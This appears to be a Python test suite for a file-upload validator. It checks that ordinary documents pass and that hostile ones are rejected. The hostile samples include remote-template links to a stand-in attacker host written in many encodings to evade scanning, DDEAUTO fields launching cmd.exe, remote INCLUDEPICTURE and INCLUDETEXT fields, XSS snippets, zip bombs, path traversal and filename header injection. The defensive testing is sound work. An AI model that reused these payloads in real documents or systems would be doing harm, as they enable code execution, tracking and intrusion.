"""ASVS 5.2: files that somebody attaches, the good and the hostile ones."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from openpyxl import Workbook

from smvp.documenti.ricevuti import BYTE_MASSIMI, FileRifiutato, controlla_ricevuto, nome_pulito

TIPI = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
MACRO = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
MODELLO = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://male.example/m.dotm" TargetMode="External"/></Relationships>'
)
ALTRO_LUOGO = "modello da un altro luogo"
ENTITA = '<!DOCTYPE Relationships [<!ENTITY t "attachedTemplate">]>' + MODELLO.replace("attachedTemplate", "&t;")
# The same link, written so that who looks for its letters among the bytes does not find them.
NASCOSTI = [
    ("utf8", MODELLO.encode(), ALTRO_LUOGO),
    ("utf16", MODELLO.encode("utf-16"), ALTRO_LUOGO),
    ("utf16le", b"\xff\xfe" + f'<?xml version="1.0" encoding="UTF-16"?>{MODELLO}'.encode("utf-16-le"), ALTRO_LUOGO),
    ("utf16be", b"\xfe\xff" + f'<?xml version="1.0" encoding="UTF-16"?>{MODELLO}'.encode("utf-16-be"), ALTRO_LUOGO),
    ("utf16-senza-segno", MODELLO.encode("utf-16-le"), ALTRO_LUOGO),
    ("cifrato", MODELLO.replace("attachedT", "attached&#84;").replace("External", "&#69;xternal").encode(), ALTRO_LUOGO),
    ("entita", ENTITA.encode(), "rovinato"),
    ("entita-utf16", ENTITA.encode("utf-16"), "rovinato"),
    ("utf7", b'<?xml version="1.0" encoding="UTF-7"?>' + MODELLO.encode("utf-7"), "rovinato"),
    ("utf32", MODELLO.encode("utf-32"), "rovinato"),
    ("latino", f'<?xml version="1.0" encoding="windows-1252"?>{MODELLO}'.encode(), "rovinato"),
    ("ebcdic", f'<?xml version="1.0" encoding="cp037"?>{MODELLO}'.encode("cp037"), "rovinato"),
    ("non-xml", b"attachedTemplate External", "rovinato"),
]


def zippato(parti: dict[str, bytes], metodo: int = zipfile.ZIP_DEFLATED) -> bytes:
    uscita = io.BytesIO()
    with zipfile.ZipFile(uscita, "w", metodo) as pacchetto:
        for nome, contenuto in parti.items():
            pacchetto.writestr(nome, contenuto)
    return uscita.getvalue()


def docx(**altre: bytes) -> bytes:
    return zippato({"[Content_Types].xml": TIPI, "word/document.xml": b"<document/>"} | altre)


def campo(*pezzi: str, parte: str = "word/document.xml") -> bytes:
    """A real document of Word with a field: what its instruction says, in as many runs; "{" and "}" open and close a field inside."""

    def giro(pezzo: str) -> str:
        segno = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}.get(pezzo)
        return f'<w:r>{segno or f"""<w:instrText xml:space="preserve">{pezzo}</w:instrText>"""}</w:r>'

    corpo = "".join(map(giro, ("{", *pezzi))) + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>qui</w:t></w:r>' + giro("}")
    return docx(**{parte: f"<w:document {WORD}><w:body><w:p>{corpo}</w:p></w:body></w:document>".encode()})


def campo_semplice(istruzione: str) -> bytes:
    scritto = f'<w:document {WORD}><w:body><w:p><w:fldSimple w:instr="{istruzione}"/></w:p></w:body></w:document>'
    return docx(**{"word/document.xml": scritto.encode()})


def xlsx() -> bytes:
    libro, uscita = Workbook(), io.BytesIO()
    libro.active.append(["indicatore", 95])
    libro.save(uscita)
    return uscita.getvalue()


def odf(tipo: str, **altre: bytes) -> bytes:
    return zippato({"mimetype": f"application/vnd.oasis.opendocument.{tipo}".encode(), "content.xml": b"<office/>"} | altre)


SPAZI = {"office": "office:1.0", "text": "text:1.0", "draw": "drawing:1.0", "table": "table:1.0", "svg": "svg-compatible:1.0",
         "script": "script:1.0"}  # fmt: skip
NOMI = " ".join(f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{u}"' for p, u in SPAZI.items())
TIPO_OLE = b"application/vnd.openxmlformats-officedocument.oleObject"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DDE_DI_EXCEL = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
TIPI_OLE = TIPI.replace(b"></Types>", b'><Default Extension="dat" ContentType="' + TIPO_OLE + b'"/></Types>')
LEGAMI = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def legame(tipo: str, dove: str, modo: str = "External", parte: str = "word/_rels/document.xml.rels") -> dict[str, bytes]:
    """What hangs on the text of a document of Office."""
    scritto = f'<Relationships><Relationship Id="rId1" Type="{LEGAMI}/{tipo}" Target="{dove}" TargetMode="{modo}"/></Relationships>'
    return {parte: scritto.encode()}


def xlsx_con(modo: str = "External", **legami: str) -> bytes:
    ((tipo, dove),) = legami.items()
    parti = legame(tipo, dove, modo, "xl/externalLinks/_rels/externalLink1.xml.rels")
    return zippato({"[Content_Types].xml": TIPI, "xl/workbook.xml": b"<w/>"} | parti)


def aperto(elemento: str, dove: str, parte: str = "content.xml") -> dict[str, bytes]:
    """A part of an OpenDocument with one element that points somewhere."""
    scritto = f'<office:x {NOMI} xmlns:l="http://www.w3.org/1999/xlink"><{elemento} l:href="{dove}"/></office:x>'
    return {parte: scritto.encode()}


RIGHE = b"<t>" + b"".join(b"<c v='%d'/>" % n for n in range(150_000)) + b"</t>"


def png(larghezza: int = 4, altezza: int = 4) -> bytes:
    def pezzo(nome: bytes, dati: bytes) -> bytes:
        return struct.pack(">I", len(dati)) + nome + dati + struct.pack(">I", zlib.crc32(nome + dati))

    testa = struct.pack(">IIBBBBB", larghezza, altezza, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + pezzo(b"IHDR", testa) + pezzo(b"IDAT", zlib.compress(b"\0" * 20)) + pezzo(b"IEND", b"")


def jpeg(larghezza: int = 4, altezza: int = 4) -> bytes:
    testa = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + testa + b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", altezza, larghezza) + b"\x01\x01\x11\x00" + b"\xff\xd9"


def bomba(megabyte: int) -> bytes:
    return docx(**{"word/media/zeri.bin": b"\0" * (megabyte << 20)})


def che_mente() -> bytes:
    """A part of 60 MB of zeros that declares ten bytes: the library reads no more than it declares, and sees that it is not so."""
    vero = zippato({"[Content_Types].xml": b"\0" * (60 << 20), "word/document.xml": b"<w/>"})
    return vero.replace(struct.pack("<I", 60 << 20), struct.pack("<I", 10))


def con_password() -> bytes:
    dati = bytearray(docx())
    for segno, posto in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        inizio = 0
        while (inizio := dati.find(segno, inizio)) >= 0:
            dati[inizio + posto] |= 1
            inizio += 4
    return bytes(dati)


@pytest.mark.parametrize(
    ("nome", "contenuto", "tipo"),
    [
        ("relazione.pdf", PDF, "application/pdf"),
        ("RELAZIONE.PDF", PDF, "application/pdf"),
        ("report.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("dati.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("report.odt", odf("text"), "application/vnd.oasis.opendocument.text"),
        ("dati.ods", odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        ("foto.png", png(), "image/png"),
        ("foto.jpg", jpeg(), "image/jpeg"),
        ("foto.jpeg", jpeg(), "image/jpeg"),
    ],
    ids=lambda x: x if isinstance(x, str) and len(x) < 20 else None,
)
def test_i_file_buoni_passano_con_il_loro_tipo(nome: str, contenuto: bytes, tipo: str) -> None:
    ricevuto = controlla_ricevuto(nome, contenuto)
    assert (ricevuto.nome.lower(), ricevuto.tipo_contenuto, ricevuto.contenuto) == (nome.lower(), tipo, contenuto)
    assert len(ricevuto.impronta) == 64


@pytest.mark.parametrize(
    ("nome", "contenuto", "frase"),
    [
        ("vuoto.pdf", b"", "vuoto"),
        ("grande.pdf", PDF + b"\0" * BYTE_MASSIMI, "10 MB"),
        ("pagina.html", b"<script>alert(1)</script>", r"\.html non si possono"),
        ("disegno.svg", b"<svg onload='alert(1)'/>", r"\.svg non si possono"),
        ("programma.pdf.exe", b"MZ", r"\.exe non si possono"),
        ("senza", PDF, "senza estensione"),
        ("vecchio.doc", b"\xd0\xcf\x11\xe0", r"\.doc non si possono"),
        ("macro.docm", docx(), r"\.docm non si possono"),
        ("archivio.zip", docx(), r"\.zip non si possono"),
        # another content under a good extension
        ("pagina.pdf", b"<html><script>alert(1)</script></html>", r"l’estensione \.pdf promette"),
        ("programma.pdf", b"MZ\x90\x00" + PDF, r"l’estensione \.pdf promette"),
        ("monco.pdf", b"%PDF-1.7\n1 0 obj", "incompleto"),
        ("foglio.docx", xlsx(), r"l’estensione \.docx promette"),
        ("testo.xlsx", docx(), r"l’estensione \.xlsx promette"),
        ("foglio.odt", odf("spreadsheet"), r"l’estensione \.odt promette"),
        ("zip.docx", zippato({"leggimi.txt": b"ciao"}), r"l’estensione \.docx promette"),
        ("pdf.docx", PDF, r"l’estensione \.docx promette"),
        ("gif.png", b"GIF89a" + b"\0" * 40, r"l’estensione \.png promette"),
        ("pagina.png", b"\x89PNG\r\n\x1a\n<script>", r"l’estensione \.png promette"),
        ("png.jpg", png(), r"l’estensione \.jpg promette"),
        ("pagina.jpg", b"\xff\xd8\xff<script>\xff\xd9", r"l’estensione \.jpg promette"),
        # what unpacks into too much
        ("bomba.docx", bomba(8), "troppo grande"),
        ("bugiardo.docx", che_mente(), "rovinato"),
        ("mille-parti.odt", odf("text", **{f"p{n}": b"" for n in range(2_100)}), "troppo grande"),
        ("immensa.png", png(60_000, 60_000), "troppo grande"),
        ("immensa.jpg", jpeg(60_000, 60_000), "troppo grande"),
        ("piatta.png", png(0, 4), r"l’estensione \.png promette"),
        # what runs, or fetches
        ("macro.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macro"),
        ("macro4.xlsx", zippato({"[Content_Types].xml": TIPI, "xl/workbook.xml": b"<w/>", "xl/macrosheets/sheet1.xml": b"<m/>"}), "macro"),
        ("activex.docx", docx(**{"word/activeX/activeX1.bin": b"x"}), "macro"),
        ("travestito.docx", docx(**{"[Content_Types].xml": MACRO.encode()}), "macro"),
        ("travestito-utf16.docx", docx(**{"[Content_Types].xml": MACRO.encode("utf-16")}), "macro"),
        ("basic.odt", odf("text", **{"Basic/Standard/Module1.xml": b"<m/>"}), "macro"),
        ("script.ods", odf("spreadsheet", **{"Scripts/python/x.py": b"import os"}), "macro"),
        ("incluso.docx", docx(**{"word/embeddings/oggetto.exe": b"MZ"}), "macro"),
        (
            "modello.docx",
            docx(**{"word/_rels/settings.xml.rels": b'<R Type="x/attachedTemplate" Target="http://male" TargetMode="External"/>'}),
            ALTRO_LUOGO,
        ),
        *((f"modello-{nome}.docx", docx(**{"word/_rels/settings.xml.rels": legami}), frase) for nome, legami, frase in NASCOSTI),
        ("modello-a-parte.docx", docx(**{"Word/_RELS/Settings.xml.RELS": MODELLO.encode("utf-16")}), ALTRO_LUOGO),
        ("legami.docx", docx(**{"word/_rels/settings.xml.rels": b"<R>" + b"<a/>" * 200_000 + b"</R>"}), "troppo grande"),
        ("immagine-di-fuori.docx", docx(**legame("image", "http://male.example/spia.png")), "dalla rete"),
        ("immagine-del-disco.docx", docx(**legame("image", "file:///C:/dati/x.png", modo=" external ")), "dalla rete"),
        ("cornice.docx", docx(**legame("frame", "http://male.example/")), "dalla rete"),
        ("altro-file.xlsx", xlsx_con(externalLinkPath="file:///S:/bilancio.xlsx"), "interrompi i collegamenti"),
        ("ole.docx", docx(**legame("oleObject", "embeddings/oggetto.dat", modo="")), "OLE"),
        ("ole-di-fuori.docx", docx(**legame("oleObject", "http://male.example/x")), "OLE"),
        ("ole-incluso.docx", docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "OLE"),
        ("ole-con-altro-nome.docx", docx(**{"[Content_Types].xml": TIPI_OLE}), "OLE"),
        ("dde.docx", campo('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'), r"si aggiorna da solo \(DDEAUTO\)"),
        ("dde-a-pezzi.docx", campo(" D", "DE", "AU", "TO c:\\cmd.exe"), "DDEAUTO"),
        ("dde-minuscolo.docx", campo(" " * 3_000, "dde excel foglio"), r"\(DDE\)"),
        ("dde-in-testa.docx", campo("DDE excel foglio", parte="word/header1.xml"), r"\(DDE\)"),
        ("dde-nelle-note.docx", campo("DDE excel foglio", parte="word/glossary/document.xml"), r"\(DDE\)"),
        ("dde-semplice.docx", campo_semplice(" DDEAUTO cmd"), "DDEAUTO"),
        ("dde-nascosto.docx", campo("{", "QUOTE 68 68 69", "}", " cmd"), "nome nascosto"),
        ("dde-nascosto-a-meta.docx", campo("DD", "{", "QUOTE 69", "}", " cmd"), "nome nascosto"),
        ("dde-dentro.docx", campo("IF 1 = 1 ", "{", "DDE excel foglio", "}"), r"\(DDE\)"),
        ("testo-di-fuori.docx", campo("INCLUDETEXT \\\\male\\x.docx"), "INCLUDETEXT"),
        ("immagine-campo.docx", campo('INCLUDEPICTURE "http://male.example/x.png"'), "INCLUDEPICTURE"),
        ("dde-senza-fine.docx", docx(**{"word/document.xml": f"<w:d {WORD}><w:instrText>DDE x y</w:instrText></w:d>".encode()}), "DDE"),
        (
            "dde.xlsx",
            zippato({"[Content_Types].xml": TIPI, "xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": DDE_DI_EXCEL}),
            "interrompi i collegamenti",
        ),
        ("macro-con-altro-nome.docx", docx(**legame("vbaProject", "innocuo.dat", modo="")), "macro"),
        ("macro-dentro.docx", docx(**{"word/embeddings/Foglio.xlsm": b"PK"}), "macro"),
        ("macro-nel-foglio-dentro.docx", docx(**{"word/embeddings/F.xlsx": xlsx_con(vbaProject="x", modo="")}), "macro"),
        ("scatole.docx", docx(**{"word/embeddings/a.docx": docx(**{"word/embeddings/b.docx": docx()})}), "OLE"),
        ("finto-foglio-dentro.docx", docx(**{"word/embeddings/F.xlsx": b"MZ\x90\x00"}), "OLE"),
        ("molti-dentro.docx", docx(**{f"word/embeddings/{n}.docx": docx() for n in range(21)}), "troppo grande"),
        ("immagine-di-fuori.odt", odf("text", **aperto("draw:image", "https://male.example/spia.png")), "dalla rete"),
        ("immagine-del-disco.odt", odf("text", **aperto("draw:image", "../../dati/x.png")), "dalla rete"),
        ("immagine-di-rete.odt", odf("text", **aperto("draw:image", "//male.example/x.png")), "dalla rete"),
        ("immagine-travestita.odt", odf("text", **aperto("draw:image", "Pictures/%2e%2e/%2e%2e/x.png")), "dalla rete"),
        ("oggetto-di-fuori.odt", odf("text", **aperto("draw:object", "http://male.example/x.ods")), "dalla rete"),
        ("stile.odt", odf("text", **aperto("svg:font-face-uri", "http://male.example/f.ttf", parte="styles.xml")), "dalla rete"),
        ("dentro-l-oggetto.odt", odf("text", **aperto("draw:image", "http://male.example/x", parte="Object 1/content.xml")), "dalla rete"),
        ("altro-file.ods", odf("spreadsheet", **aperto("table:table-source", "file:///S:/bilancio.ods")), "dalla rete"),
        ("dde.ods", odf("spreadsheet", **aperto("office:dde-source", "x")), "dalla rete"),
        ("ole.odt", odf("text", **aperto("draw:object-ole", "./Object 1")), "OLE"),
        ("macro.odt", odf("text", **aperto("script:event-listener", "vnd.sun.star.script:M.m?language=Basic")), "macro"),
        ("macro-nel-collegamento.odt", odf("text", **aperto("text:a", "vnd.sun.star.script:M.m?language=Basic")), "macro"),
        ("entita.odt", odf("text", **{"content.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "rovinato"),
        ("celle-vuote.ods", odf("spreadsheet", **{"content.xml": b"<t>" + b"<c/>" * 1_100_000 + b"</t>"}), "troppo grande"),
        ("fuori.docx", docx(**{"../../etc/passwd": b"x"}), "nessun programma scrive"),
        ("assoluto.docx", docx(**{"/etc/passwd": b"x"}), "nessun programma scrive"),
        # what cannot be read
        ("password.docx", con_password(), "password"),
        ("password.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"),
        ("rovinato.docx", docx()[:-30], "rovinato"),
        ("finto.docx", b"PK\x03\x04" + b"\0" * 300, "rovinato"),
    ],
    ids=lambda x: x if isinstance(x, str) else None,
)
def test_i_file_cattivi_sono_rifiutati_in_parole_e_subito(nome: str, contenuto: bytes, frase: str) -> None:
    inizio = time.process_time()
    with pytest.raises(FileRifiutato, match=frase):
        controlla_ricevuto(nome, contenuto)
    assert time.process_time() - inizio < 2


@pytest.mark.parametrize("codifica", ["utf-8", "utf-8-sig", "utf-16"])
def test_un_documento_onesto_passa_in_ogni_codifica_che_lo_standard_ammette(codifica: str) -> None:
    collegamento = MODELLO.replace("attachedTemplate", "hyperlink")
    legami = {"word/_rels/document.xml.rels": collegamento.encode(codifica), "[Content_Types].xml": TIPI.decode().encode(codifica)}
    assert controlla_ricevuto("relazione.docx", docx(**legami)).nome == "relazione.docx"


def con_grafico() -> bytes:
    """As Word keeps a chart: the workbook of its figures is a package inside the package."""
    parti = legame("package", "../embeddings/Foglio.xlsx", "Internal", "word/charts/_rels/chart1.xml.rels")
    return docx(**parti, **{"word/embeddings/Foglio.xlsx": xlsx()})


@pytest.mark.parametrize(
    ("nome", "contenuto"),
    [
        ("collegamento.docx", docx(**legame("hyperlink", "https://www.comune.domodossola.vb.it/"))),
        ("indice.docx", campo(' TOC \\o "1-3" \\h ')),
        ("numero-di-pagina.docx", campo("=", "{", " PAGE ", "}", " - 1")),
        ("se-prima-pagina.docx", campo(" IF ", "{", " PAGE ", "}", ' = 1 "DDE" "INCLUDETEXT"')),
        ("collegamento-a-mano.docx", campo_semplice("HYPERLINK &quot;https://www.comune.domodossola.vb.it/dde&quot;")),
        ("stampante.docx", docx(**{"word/printerSettings/printerSettings1.bin": b"x"})),
        ("grafico.docx", con_grafico()),
        ("collegamento.odt", odf("text", **aperto("text:a", "https://www.comune.domodossola.vb.it/"))),
        ("figura.odt", odf("text", **aperto("draw:image", "Pictures/1000.png"), **{"Pictures/1000.png": png()})),
        ("grafico.ods", odf("spreadsheet", **aperto("draw:object", "./Object 1"), **{"Object 1/content.xml": b"<office/>"})),
        ("righe.ods", odf("spreadsheet", **{"content.xml": RIGHE})),
    ],
    ids=lambda x: x if isinstance(x, str) else None,
)
def test_un_documento_di_tutti_i_giorni_passa(nome: str, contenuto: bytes) -> None:
    assert controlla_ricevuto(nome, contenuto).nome == nome


@pytest.mark.parametrize(
    ("scritto", "pulito"),
    [
        ("relazione finale.pdf", "relazione finale.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        (r"C:\Users\anna\relazione.PDF", "relazione.pdf"),
        ("relazione\r\nSet-Cookie: a=b.pdf", "relazioneSet-Cookie_ a=b.pdf"),
        ('rel"az;io<n>e?.pdf', "rel_az;io_n_e_.pdf"),
        ("fattura\u202efdp.exe", "fatturafdp.exe"),
        ("a\u200bb\x00c.pdf", "abc.pdf"),
        ("  .  relazione . .pdf", "relazione.pdf"),
        (".htaccess", "htaccess"),
        ("con.pdf", "_con.pdf"),
        ("perche\u0301.pdf", "perché.pdf"),
        ("x" * 500 + ".pdf", "x" * 120 + ".pdf"),
        ("...", "allegato"),
        ("", "allegato"),
    ],
)
def test_del_nome_resta_quello_che_si_puo_leggere(scritto: str, pulito: str) -> None:
    assert nome_pulito(scritto) == pulito


def test_l_impronta_e_del_contenuto_e_non_del_nome() -> None:
    assert controlla_ricevuto("a.pdf", PDF).impronta == controlla_ricevuto("b.pdf", PDF).impronta
